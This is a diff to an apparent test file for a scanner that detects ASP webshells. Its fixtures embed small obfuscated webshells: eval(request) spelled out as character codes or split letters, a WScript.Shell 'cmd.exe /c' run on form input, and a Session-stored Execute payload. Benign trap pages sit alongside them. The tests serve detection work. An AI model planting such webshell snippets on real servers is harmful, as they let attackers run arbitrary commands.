@@ -247,3 +247,62 @@ test("single-key XOR before Assembly.Load then Invoke with request data; trap: a
   ].join("\n");
   assert.ok(!rules("sum.aspx", inert(sum)).includes("xor-then-run"));
 });
+
+test("eval/Execute whose words are spelled out (code arrays, single letters, e|v|a|l); traps: ordinary arrays", () => {
+  const codes = [...'eval(request("k"))'].map((c) => c.charCodeAt(0)).join(", ");
+  const loop = `<%\na = Array(${codes})\nFor i = 0 To UBound(a)\ns = s & Chr(a(i))\nNext\nExecute(s)\n%>`;
+  assert.deepEqual(
+    run(swept(`${DIR}c.asp`, loop)).map((d) => d.check),
+    ["webshell-asp-eval"], // the decoded text is the classic eval(request(...)) itself
+  );
+  const split = [
+    "<html><body><%",
+    'p = Join(Split("e|v|a|l", "|"), "")',
+    'q = Join(Split("r|e|q|u|e|s|t", "|"), "")',
+    'ExecuteGlobal p & "(" & q & "(""k""))"',
+    "%></body></html>",
+  ].join("\n");
+  const a = scoreOf("s.asp", split);
+  assert.ok(a.signals.some((x) => x.rule === "spelled-out-eval" && x.line === 2));
+  assert.ok(a.score >= 10);
+  // Traps: weekday initials, month lengths and a CSV separator in a page that runs a fixed statement.
+  const page = [
+    "<html><body><%",
+    'days = Array("M", "T", "W", "T", "F", "S", "S")',
+    "lens = Array(31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31)",
+    'cols = Split("n|a|m|e|s", "|")',
+    'Execute("total = 0")',
+    'Response.Write days(Request.QueryString("d"))',
+    "%></body></html>",
+  ].join("\n");
+  const b = scoreOf("cal.asp", page);
+  assert.ok(!b.signals.some((x) => x.rule === "spelled-out-eval"));
+  assert.ok(b.score < 10, `score ${b.score}`);
+});
+
+test("a literal followed by more code is not a constant; a Session slot keyed by a variable carries data", () => {
+  // `command = "cmd.exe /c " & cmdParam` must keep cmdParam (it was folded to the bare literal).
+  const vb = [
+    "<html><body><%",
+    'cmdParam = Request.Form("cmd")',
+    'command = "cmd.exe /c " & cmdParam',
+    'Set sh = CreateObject("WScript.Shell")',
+    "Set p = sh.Exec(command)",
+    "%></body></html>",
+  ].join("\n");
+  assert.ok(rules("x.asp", vb).includes("flow-wscript-run"));
+  // Trap: a real one-literal constant still folds (and runs nothing from the request).
+  const fixed =
+    '<html><body><%\ncmd = "whoami"\nSet sh = CreateObject("WScript.Shell")\nsh.Exec(cmd)\n%></body></html>';
+  assert.ok(!rules("y.asp", fixed).includes("flow-wscript-run"));
+  const session = [
+    "<html><body><%",
+    'k = Join(Array("pay", "load"), "")',
+    'If IsEmpty(Session(k)) Then Session(k) = Request.Form("p") Else Execute(Session(k))',
+    "%></body></html>",
+  ].join("\n");
+  assert.ok(rules("g.asp", session).includes("flow-execute"));
+  const cached =
+    '<html><body><%\nk = "menu"\nIf IsEmpty(Session(k)) Then Session(k) = "home|about"\nResponse.Write Session(k) & Request("sep")\n%></body></html>';
+  assert.deepEqual(run(swept(`${DIR}menu.asp`, cached)), []);
+});
